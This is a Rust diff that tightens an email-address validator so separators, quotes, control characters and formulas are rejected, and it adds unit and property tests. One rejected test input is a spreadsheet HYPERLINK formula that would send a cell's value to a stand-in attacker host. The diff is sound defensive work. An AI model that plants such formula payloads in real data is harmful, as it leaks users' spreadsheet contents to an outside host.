@@ -158,16 +158,21 @@ impl Code {
 }
 
 impl Email {
-    /// Accepts `local@domain.tld` without spaces; stores it in lower case.
+    /// Accepts `local@domain.tld` and stores it in lower case. The local part takes letters
+    /// (any script), digits and `.!#$%&'*+/=?^_`{}~-` (RFC 5322's atoms, without `|`, the list
+    /// separator of CSV files); the domain takes letters, digits and `-` in two or more labels.
+    /// Spaces, control characters, quotes, brackets and `;` never pass, so no formula or second
+    /// value can hide in an address.
     pub fn parse(raw: &str) -> Result<Self, Problem> {
         let text = raw.trim().to_lowercase();
+        let local_char = |c: char| c.is_alphanumeric() || ".!#$%&'*+/=?^_`{}~-".contains(c);
+        let label_ok = |label: &str| !label.is_empty() && label.chars().all(|c| c.is_alphanumeric() || c == '-');
         let valid = text.len() <= 254
-            && !text.chars().any(char::is_whitespace)
             && text.split_once('@').is_some_and(|(local, domain)| {
                 !local.is_empty()
-                    && !domain.contains('@')
+                    && local.chars().all(local_char)
                     && domain.split('.').count() >= 2
-                    && domain.split('.').all(|part| !part.is_empty())
+                    && domain.split('.').all(label_ok)
             });
         valid.then_some(Self(text)).ok_or(Problem::EmailShape)
     }
@@ -637,5 +642,45 @@ impl Tie {
     pub fn with_period(mut self, period: Period) -> Self {
         self.period = period;
         self
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use proptest::prelude::*;
+
+    #[test]
+    fn everyday_addresses_pass_and_separators_formulas_and_controls_do_not() {
+        for ok in ["anna@example.org", "Anna.Petrova+nko@mail.ru", "почта@пример.рф", "o'neil@x-y.org"] {
+            assert!(Email::parse(ok).is_ok(), "{ok}");
+        }
+        for bad in [
+            "a|b@example.org",
+            "=hyperlink(\"http://evil.example/?\"&c2&\"@x.y\";\"обновить\")",
+            "a b@example.org",
+            "a\u{1}b@example.org",
+            "a;b@example.org",
+            "\"a\"@example.org",
+            "a@b@example.org",
+            "a@example",
+            "a@exa_mple.org",
+            "a@.org",
+            "@example.org",
+        ] {
+            assert_eq!(Email::parse(bad), Err(Problem::EmailShape), "{bad:?}");
+        }
+    }
+
+    proptest! {
+        #[test]
+        fn an_accepted_address_has_no_separator_or_control_and_parses_back_as_itself(raw in "\\PC{0,30}@\\PC{0,20}\\.[a-zа-я]{2,4}|[a-z|;,= ]{1,10}@[a-z.|]{1,10}") {
+            if let Ok(email) = Email::parse(&raw) {
+                let text = email.as_str();
+                prop_assert!(!text.contains(['|', ';', ',', '"', ' ', '(', ')', '<', '>']), "{}", text);
+                prop_assert!(!text.chars().any(char::is_control), "{:?}", text);
+                prop_assert_eq!(Email::parse(text), Ok(email.clone()));
+            }
+        }
     }
 }
